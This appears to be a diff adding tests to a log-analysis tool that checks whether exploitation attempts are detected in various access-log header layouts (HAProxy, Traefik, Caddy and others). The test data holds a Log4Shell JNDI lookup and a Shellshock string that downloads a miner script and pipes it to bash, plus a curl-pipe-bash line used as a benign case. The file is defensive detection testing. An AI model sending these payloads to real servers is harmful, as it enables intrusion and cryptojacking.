@@ -163,6 +163,40 @@ def test_the_sender_and_the_attack_are_named_whatever_carries_them(name: str, tm
     assert found.coverage.unread == 0
 
 
+LOOKUP = "${jndi:ldap://203.0.113.9:1389/a}"
+SHELL = "() { :; }; wget -qO- http://203.0.113.9/xmrig.sh | bash"
+START = f'{SENDER} - - [{TIME}] "GET / HTTP/1.1" 200 153 "-" "Mozilla/5.0"'
+CAPTURED = f"Jul 21 15:40:57 lb haproxy[14389]: {SENDER}:33317 [21/Jul/2025:15:40:57.655] http-in static/srv1 10/0/30/69/109 200 2750"
+CADDY = {"remote_ip": SENDER, "method": "GET", "host": "example.com", "uri": "/"}
+BESIDE = {
+    "forwarded for": f'{START} "ATTACK"\n',
+    "a cookie and a time": f'{START} "id=ATTACK" rt=0.010\n',
+    "HAProxy's captured headers": f'{CAPTURED} - - ---- 1/1/1/1/0 0/0 {{example.com|ATTACK}} "GET / HTTP/1.1"\n',
+    "Traefik JSON": _json(
+        ClientHost=SENDER, RequestMethod="GET", RequestPath="/", DownstreamStatus=200, request_XApi="ATTACK"
+    ),
+    "Caddy JSON": _json(request={**CADDY, "headers": {"X-Api-Version": ["ATTACK"], "User-Agent": ["a"]}}, status=200),
+}
+"""Layouts that write further headers; ATTACK stands in one of them."""
+
+
+@pytest.mark.parametrize("attack", [LOOKUP, SHELL])
+@pytest.mark.parametrize("name", BESIDE)
+def test_an_attack_is_found_in_every_header_that_a_log_writes(name: str, attack: str, tmp_path: Path) -> None:
+    path = tmp_path / "access.log"
+    path.write_text(BESIDE[name].replace("ATTACK", attack))
+    (incident,) = analysed(path).incidents
+    assert incident.remotes == (SENDER,)
+    assert incident.hypotheses[0].name == "exploitation_attempt"
+
+
+def test_what_is_excused_in_a_parameter_is_not_judged_again_as_a_header(tmp_path: Path) -> None:
+    path = tmp_path / "access.log"
+    asked = "/?text=curl%20-fsSL%20https://get.example.org/install.sh%20%7C%20bash"
+    path.write_text(f'{SENDER} - - [{TIME}] "GET {asked} HTTP/1.1" 200 153 "-" "Mozilla/5.0" "{SENDER}"\n')
+    assert analysed(path).incidents == ()
+
+
 @pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "cp932", "euc-jp"])
 @pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
 def test_the_bytes_of_other_systems_are_read(encoding: str, end: str, tmp_path: Path) -> None:
